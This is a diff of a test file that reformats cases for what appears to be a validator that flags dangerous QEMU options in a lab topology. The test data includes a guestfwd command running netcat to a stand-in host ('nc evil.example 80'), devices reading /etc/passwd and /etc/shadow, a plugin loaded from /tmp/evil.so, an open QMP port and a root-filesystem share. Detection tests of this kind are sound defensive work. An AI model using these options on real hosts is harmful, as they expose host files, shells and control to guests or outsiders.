@@ -75,7 +75,7 @@ nodes:
 `);
     expect(lines(t)).toEqual([
       'node "n", guestfwd[0].target: runs the host command "nc evil.example 80" for each guest connection',
-      "node \"n\", guestfwd[1].target: connects guests to the host's tcp:127.0.0.1:5432",
+      'node "n", guestfwd[1].target: connects guests to the host\'s tcp:127.0.0.1:5432',
       'node "n", smb: shares the host directory /home with the guests (runs smbd)',
       'node "n", tftp: serves the host directory /srv/tftp to the guests by TFTP',
       'node "v", sock: puts its switch in the host directory /var/run/sw',
@@ -129,8 +129,14 @@ links:
       [['-plugin', '/tmp/evil.so'], '-plugin /tmp/evil.so'],
       [['-chardev', 'file,id=c,path=/etc/passwd'], '-chardev file,id=c,path=/etc/passwd'],
       [['-chardev', 'pipe,id=c,path=/tmp/p'], '-chardev pipe,id=c,path=/tmp/p'],
-      [['-object', 'memory-backend-file,id=m,mem-path=/dev/shm/x,size=1G'], '-object memory-backend-file,id=m,mem-path=/dev/shm/x,size=1G'],
-      [['-object', '{"qom-type":"input-linux","id":"k","evdev":"/dev/input/event0"}'], '-object {"qom-type":"input-linux","id":"k","evdev":"/dev/input/event0"}'],
+      [
+        ['-object', 'memory-backend-file,id=m,mem-path=/dev/shm/x,size=1G'],
+        '-object memory-backend-file,id=m,mem-path=/dev/shm/x,size=1G',
+      ],
+      [
+        ['-object', '{"qom-type":"input-linux","id":"k","evdev":"/dev/input/event0"}'],
+        '-object {"qom-type":"input-linux","id":"k","evdev":"/dev/input/event0"}',
+      ],
       [['-device', 'loader,file=/etc/shadow,addr=0x1000'], '-device loader,file=/etc/shadow,addr=0x1000'],
       [['-device', 'vfio-pci,host=01:00.0'], '-device vfio-pci,host=01:00.0'],
       [['-device', 'virtio-blk-pci,romfile=/x'], '-device virtio-blk-pci,romfile=/x'],
@@ -140,7 +146,10 @@ links:
       [['-pidfile', '/etc/x'], '-pidfile /etc/x'],
       [['-serial', 'tcp::4444,server=on'], '-serial tcp::4444,server=on'],
       [['-qmp', 'tcp:0.0.0.0:4444,server=on'], '-qmp tcp:0.0.0.0:4444,server=on'],
-      [['-virtfs', 'local,path=/,mount_tag=r,security_model=none'], '-virtfs local,path=/,mount_tag=r,security_model=none'],
+      [
+        ['-virtfs', 'local,path=/,mount_tag=r,security_model=none'],
+        '-virtfs local,path=/,mount_tag=r,security_model=none',
+      ],
       [['-icount', 'shift=auto,rr=record,rrfile=/etc/x'], '-icount shift=auto,rr=record,rrfile=/etc/x'],
       [['-semihosting'], '-semihosting'],
       [['-frobnicate', 'x'], '-frobnicate x'],
